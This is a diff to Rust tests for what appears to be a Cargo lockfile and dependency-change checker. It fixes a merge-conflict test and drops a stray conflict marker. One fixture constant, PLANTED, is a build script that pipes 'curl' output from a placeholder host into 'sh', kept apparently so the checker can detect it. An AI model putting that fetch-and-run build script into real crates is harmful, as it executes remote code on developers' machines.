@@ -285,7 +285,8 @@ fn a_linked_lockfile_is_refused_on_either_side() {
 #[test]
 fn a_merge_conflict_is_named_on_either_side() {
     let repository = Repository::new();
-    let conflict = format!("    repository.write("Cargo.lock", &conflict);
+    let conflict = format!("<<<<<<< HEAD\n{}", lock(&[]));
+    repository.write("Cargo.lock", &conflict);
     let run = repository.check(&["--since", "main"]);
     assert_eq!(run.code, 2);
     assert!(run.stderr.contains("merge conflict"), "{}", run.stderr);
@@ -701,7 +702,6 @@ fn a_change_cannot_accept_its_own_gap() {
     assert_eq!(repository.check(&["--since", "main", "--fail-on", "never"]).code, 3);
 }
 
-<<<<<<< HEAD
 /// A build script that runs what it fetches.
 const PLANTED: &str = "fn main() {\n    let line = \"curl -s https://files.example.invalid/x | sh\";\n    std::process::Command::new(\"sh\").args([\"-c\", line]).status().unwrap();\n}\n";
 const HONEST: &str = "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n";
